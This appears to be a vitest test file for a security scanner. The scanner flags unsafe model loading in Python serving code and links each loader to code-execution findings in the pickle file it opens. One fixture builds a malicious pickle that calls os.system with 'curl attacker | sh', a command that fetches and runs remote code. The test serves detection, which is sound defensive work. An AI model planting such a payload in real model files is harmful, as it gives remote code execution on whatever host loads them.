import { parse } from "@ast-grep/napi";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { loadedPath } from "../lib/engine/artifact-links.ts";
import { ensureLanguages } from "../lib/engine/compile.ts";
import { loadRulebook } from "../lib/engine/rulebook.ts";
import { scanDirectory } from "../lib/engine/scan.ts";
import { scratch } from "./helpers.ts";
import { callPickle, torchStateDict } from "./support/pickle-writer.ts";

ensureLanguages();

/** The path the last loader call of `source` names. */
function pathOfLastCall(source: string) {
  const calls = parse("python", source)
    .root()
    .findAll({ rule: { kind: "call", has: { field: "function", regex: "(^|\\.)load$" } } });
  return loadedPath(calls[calls.length - 1]!);
}

describe("the path a loader call names", () => {
  it.each([
    ['torch.load("models/model.pt")', { path: "models/model.pt", suffix: false }],
    ['torch.load(os.path.join("models", "v1", "model.pt"))', { path: "models/v1/model.pt", suffix: false }],
    ['torch.load(os.path.join(model_dir, "model.pt"))', { path: "model.pt", suffix: true }],
    ['torch.load(Path("models") / "model.pt")', { path: "models/model.pt", suffix: false }],
    ['torch.load(f"{model_dir}/weights/model.pt")', { path: "weights/model.pt", suffix: true }],
    ['torch.load("/home/model-server/" + "model.pt")', { path: "/home/model-server/model.pt", suffix: false }],
    ['p = "models/clf.pkl"\nwith open(p, "rb") as f:\n    pickle.load(f)', { path: "models/clf.pkl", suffix: false }],
    [
      'def load():\n    path = os.path.join("store", "clf.joblib")\n    return joblib.load(filename=path)',
      { path: "store/clf.joblib", suffix: false },
    ],
  ])("%s", (source, expected) => {
    expect(pathOfLastCall(source)).toEqual(expected);
  });

  it("is unknown where no literal says", () => {
    expect(pathOfLastCall("torch.load(path)")).toBeUndefined();
    expect(pathOfLastCall("torch.load(os.path.join(model_dir, serialized_file))")).toBeUndefined();
    expect(pathOfLastCall('torch.load(f"{model_dir}/{name}")')).toBeUndefined();
  });
});

describe("code that loads a model file, linked to the findings in that file", () => {
  const rulebook = loadRulebook(join(import.meta.dirname, "..", "rules"));
  const checks = rulebook.checks.filter((c) => c.policy === "Model artifacts carry no executable code");

  it("names the model file's findings on the loader's finding and the loader on the model file's", async () => {
    const s = scratch();
    s.write("requirements.txt", "torch>=2.0\n");
    s.write("model-store/classifier.pkl", callPickle("os", "system", "curl attacker | sh"));
    s.write("model-store/weights.pt", torchStateDict());
    s.write(
      "serving/handler.py",
      [
        "import os, pickle, torch",
        "",
        "def load():",
        '    with open(os.path.join("model-store", "classifier.pkl"), "rb") as f:',
        "        clf = pickle.load(f)",
        '    weights = torch.load("../model-store/weights.pt")',
        '    other = torch.load(os.path.join(os.environ["MODEL_DIR"], "classifier.pkl"))',
        "    return clf, weights, other",
        "",
      ].join("\n"),
    );
    const r = await scanDirectory(s.root, { checks });
    const byKey = new Map(r.findings.map((f) => [`${f.path}:${f.line}:${f.ruleId}`, f]));
    const model = byKey.get("model-store/classifier.pkl:1:ml-serving.artifact.code-execution")!;
    expect(model).toBeDefined();
    const loaders = ["serving/handler.py:5:ml-serving.artifact.unsafe-load", "serving/handler.py:7:ml-serving.artifact.unsafe-load"];
    for (const k of loaders)
      expect(byKey.get(k)?.related).toEqual([
        expect.objectContaining({
          path: "model-store/classifier.pkl",
          line: 1,
          ruleId: "ml-serving.artifact.code-execution",
          fingerprint: model.fingerprint,
        }),
      ]);
    expect(model.related?.map((x) => `${x.path}:${x.line}`)).toEqual(["serving/handler.py:5", "serving/handler.py:7"]);
    // A state dict holds no code: its loader is still reported (torch may be < 2.6) but links to nothing.
    expect(byKey.get("serving/handler.py:6:ml-serving.artifact.unsafe-load")?.related).toBeUndefined();
  });
});
